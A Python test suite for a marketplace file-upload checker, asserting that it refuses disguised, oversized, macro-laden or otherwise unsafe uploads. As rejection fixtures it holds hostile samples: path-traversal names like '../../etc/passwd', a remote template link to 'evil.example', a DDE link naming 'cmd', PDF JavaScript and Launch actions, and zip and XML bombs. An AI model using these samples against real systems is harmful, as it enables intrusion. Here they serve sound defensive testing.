"""Files that are not what they say, or more than that, and what people are told of them."""

import io
import time
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from marketplace.files.checking import PAPERS, TABLES, Unfit, check
from tests.files.factories import WORD, archive, docx, jpeg, object_stream, pdf, png, xlsx

GOOD = {
    "执照.pdf": pdf(),
    "扫描.PNG": png(),
    "扫描.jpg": jpeg(),
    "扫描.jpeg": jpeg(),
    "委托书.docx": docx(),
    "清单.xlsx": xlsx(),
    "清单.csv": "标题,价格\n示范,1\n".encode(),
    "清单.txt": "标题\t价格\n示范\t1\n".encode("gb18030"),
    "清单.tsv": "标题\t价格\n示范\t1\n".encode("utf-16"),
    "清单.jsonl": b'{"title": "x"}\n',
}


def checked(content: bytes, name: str, kinds=(*PAPERS, *TABLES)):
    return check(io.BytesIO(content), name, size=len(content), kinds=kinds)


def refusal(content: bytes, name: str, kinds=(*PAPERS, *TABLES)) -> str:
    with pytest.raises(Unfit) as refused:
        checked(content, name, kinds)
    return str(refused.value)


@pytest.mark.parametrize("name", GOOD)
def test_honest_file_is_taken_as_what_it_is(name):
    assert f".{name.rpartition('.')[2].lower()}" in checked(GOOD[name], name).endings


# --- Names and sizes.


@pytest.mark.parametrize(
    "name",
    ["", "   ", ".pdf", "a/b.pdf", "..\\b.pdf", "示范\u202efdp.exe.pdf", "示范\x00.pdf", "示范\n.pdf", "a\u200b.pdf", "长" * 197 + ".pdf", " a.pdf", "\ud800.pdf"],
)  # fmt: skip
def test_odd_name_is_refused(name):
    assert "名" in refusal(pdf(), name)


def test_longest_name_is_taken():
    assert checked(pdf(), "长" * 196 + ".pdf").code == "pdf"


@pytest.mark.parametrize(
    "name", ["示范.exe", "示范", "示范.pdf.exe", "示范.doc", "示范.xlsm", "示范.zip", "示范.svg", "示范.html"]
)
def test_ending_that_is_not_taken_is_named_with_those_that_are(name):
    assert "请上传 PDF、PNG、JPEG、DOCX、XLSX 文件" in refusal(pdf(), name, PAPERS)


def test_empty_file_is_refused():
    assert "0 字节" in refusal(b"", "a.pdf")


def test_size_is_told_with_the_limit():
    with pytest.raises(Unfit, match="PDF 文件不超过 20 MB"):
        check(io.BytesIO(pdf()), "a.pdf", size=(20 << 20) + 1)


# --- What the bytes say.


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (png(), "a.pdf"), (pdf(), "a.png"), (b"MZ" + pdf(), "a.pdf"), (docx(), "a.xlsx"), (xlsx(), "a.docx"), (jpeg(), "a.png"),
        (pdf(), "a.csv"), (xlsx(), "a.csv"), (b"MZ\x90", "a.csv"), (b"<html>", "a.pdf"), (b"PK\x03\x04", "a.pdf"), (b"Rar!\x1a", "a.jsonl"),
    ],
)  # fmt: skip
def test_content_that_is_not_what_the_name_says_is_refused(content, name):
    assert "文件内容不是" in refusal(content, name)


def test_old_or_encrypted_office_file_is_refused():
    assert "旧版" in refusal(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "a.docx")


def test_zero_bytes_are_no_text():
    assert "空字节" in refusal(b"a,b\n1,\x00\n", "a.csv")


# --- Office.


@pytest.mark.parametrize("part", ["word/vbaProject.bin", "xl/macrosheets/sheet1.xml", "word/activeX/activeX1.xml"])
def test_macros_are_refused(part):
    assert "宏" in refusal(docx(**{part: b"x"}), "a.docx")


def test_macros_that_hide_behind_another_name_are_refused():
    types = WORD["[Content_Types].xml"].replace(
        b"</Types>", b'<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    )

    assert "宏" in refusal(docx(**{"[Content_Types].xml": types, "word/x.bin": b"x"}), "a.docx")


@pytest.mark.parametrize("part", ["word/embeddings/oleObject1.bin", "word/embeddings/Book.xlsx"])
def test_embedded_objects_are_refused(part):
    assert "嵌" in refusal(docx(**{part: b"x"}), "a.docx")


@pytest.mark.parametrize("content", [pdf, docx])
def test_archive_in_an_archive_is_refused(content):
    inner = archive({"x": content()})

    assert "嵌有" in refusal(docx(**{"word/media/image1.emf": inner}), "a.docx")


def test_link_that_loads_a_template_is_refused():
    link = (
        b'<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )

    assert "加载" in refusal(docx(**{"word/_rels/settings.xml.rels": link}), "a.docx")


def test_link_that_a_person_follows_is_taken():
    link = (
        b'<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'hyperlink" Target="https://frame.example/" TargetMode="External"/></Relationships>'
    )

    assert checked(docx(**{"word/_rels/document.xml.rels": link}), "a.docx").code == "docx"


def test_dde_is_refused():
    assert "DDE" in refusal(
        docx(**{"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/>'}), "a.docx"
    )


@pytest.mark.parametrize("code", ["utf-8", "utf-16"])
def test_entities_are_refused(code):
    bomb = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaa">]><x>&a;</x>'.encode(code)

    assert "实体" in refusal(docx(**{"word/extra.xml": bomb}), "a.docx")


def test_bomb_is_refused_before_it_is_unpacked():
    assert "解压后过大" in refusal(docx(**{"word/x.xml": bytes(210 << 20)}), "a.docx")


def test_ratio_beyond_what_sheets_reach_is_refused():
    assert "解压后过大" in refusal(docx(**{"word/x.xml": bytes(30 << 20)}), "a.docx")


def test_too_many_entries_are_refused():
    assert "2001" in refusal(archive({f"{n}": b"" for n in range(2001)}), "a.docx")


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "C:/x.xml", "word\\..\\..\\x.xml"])
def test_path_that_leads_out_is_refused(name):
    # zipfile writes names with a drive or a backslash as they are.
    assert "越界" in refusal(docx(**{name: b"x"}), "a.docx")


def test_entries_that_share_their_bytes_are_refused():
    whole = bytearray(docx(**{"word/a.xml": b"a" * 100, "word/b.xml": b"b" * 100}))
    # The directory says of the last entry that it begins where the one before begins.
    places = [place for place in range(len(whole)) if whole[place : place + 4] == b"PK\x01\x02"]
    whole[places[-1] + 42 : places[-1] + 46] = whole[places[-2] + 42 : places[-2] + 46]

    assert "解压后过大" in refusal(bytes(whole), "a.docx")


def test_encrypted_entry_is_refused():
    whole = bytearray(docx())
    for place in range(len(whole)):
        if whole[place : place + 4] == b"PK\x01\x02":
            whole[place + 8] |= 1

    assert "加密" in refusal(bytes(whole), "a.docx")


@given(st.integers(1, 600))
def test_office_file_that_breaks_off_is_refused(missing):
    whole = xlsx()

    refusal(whole[: max(len(whole) - missing, 4)], "a.xlsx")


# --- PDF.


@pytest.mark.parametrize(
    "inside",
    [
        "9 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj", "9 0 obj<</S /J#61vaScript>>endobj", "9 0 obj<</S/Launch/F(x)>>endobj",
        "9 0 obj<</Names<</EmbeddedFiles 8 0 R>>>>endobj", "9 0 obj<</Type/EmbeddedFile>>endobj", "9 0 obj<</AcroForm<</XFA 8 0 R>>>>endobj",
    ],
)  # fmt: skip
def test_pdf_that_acts_is_refused(inside):
    assert "脚本" in refusal(pdf(inside), "a.pdf")
    assert "脚本" in refusal(object_stream(inside.encode()), "a.pdf")


def test_pdf_with_honest_objects_is_taken():
    assert (
        checked(object_stream(b"9 0 <</Type/Annot/Subtype/Link/A<</S/URI/URI(https://example.test)>>>>"), "a.pdf").code
        == "pdf"
    )
    assert checked(pdf("9 0 obj<</EncryptMetadata true/LaunchPad 1>>endobj"), "a.pdf").code == "pdf"


def test_encrypted_pdf_is_refused():
    assert "加密" in refusal(pdf("trailer<</Encrypt 9 0 R>>"), "a.pdf")


@pytest.mark.parametrize(
    "told",
    ["/Filter/LZWDecode", "/Filter[/ASCIIHexDecode/FlateDecode]", "/Filter/FlateDecode/DecodeParms<</Predictor 12>>"],
)
def test_pdf_whose_inside_cannot_be_checked_is_refused(told):
    assert "无法检查" in refusal(object_stream(b"x", told=told), "a.pdf")


def test_pdf_that_unpacks_into_too_much_is_refused():
    assert "解压后过大" in refusal(object_stream(bytes(70 << 20)), "a.pdf")


def test_pdf_that_breaks_off_is_refused():
    assert "不完整" in refusal(pdf()[:-20], "a.pdf")


def test_large_pdf_full_of_streams_is_checked_in_little_time():
    body = b"stream\n" * 150_000 + b"<<" * 1_000_000 + b"#41" * 100_000
    head, end, tail = pdf().partition(b"xref\n")
    began = time.perf_counter()

    checked(head + body + end + tail, "a.pdf")

    assert time.perf_counter() - began < 5


# --- Pictures.


@pytest.mark.parametrize(("make", "name"), [(png, "a.png"), (jpeg, "a.jpg")])
def test_absurd_dimensions_are_refused_by_the_header_alone(make, name):
    assert "60000 × 60000" in refusal(make(60_000, 60_000), name)
    assert "像素" in refusal(make(20_000, 20_000), name)
    assert checked(make(10_000, 10_000), name)


@pytest.mark.parametrize(("make", "name"), [(png, "a.png"), (jpeg, "a.jpg")])
def test_picture_without_sides_is_refused(make, name):
    assert "损坏" in refusal(make(0, 10), name)


@given(st.sampled_from([png(), jpeg()]), st.integers(1, 30))
def test_picture_that_breaks_off_is_refused(content, missing):
    name = "a.png" if content[:1] == b"\x89" else "a.jpg"

    assert "损坏" in refusal(content[:-missing], name)


# --- Whatever arrives.


@given(st.binary(max_size=300), st.sampled_from([b"", b"%PDF-1.4\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"PK\x03\x04"]),
       st.sampled_from([".pdf", ".png", ".jpg", ".docx", ".xlsx", ".csv", ".jsonl"]))  # fmt: skip
def test_any_bytes_are_taken_or_refused_in_words(content, head, ending):
    with suppress(Unfit):
        checked(head + content, f"a{ending}")


@given(st.data())
def test_one_wrong_byte_breaks_nothing(data):
    name = data.draw(st.sampled_from(sorted(GOOD)))
    spoiled = bytearray(GOOD[name])
    spoiled[data.draw(st.integers(0, len(spoiled) - 1))] = data.draw(st.integers(0, 255))

    with suppress(Unfit):
        checked(bytes(spoiled), name)


@given(st.text(max_size=250))
def test_any_name_is_taken_or_refused_in_words(name):
    with suppress(Unfit):
        checked(pdf(), name + ".pdf")
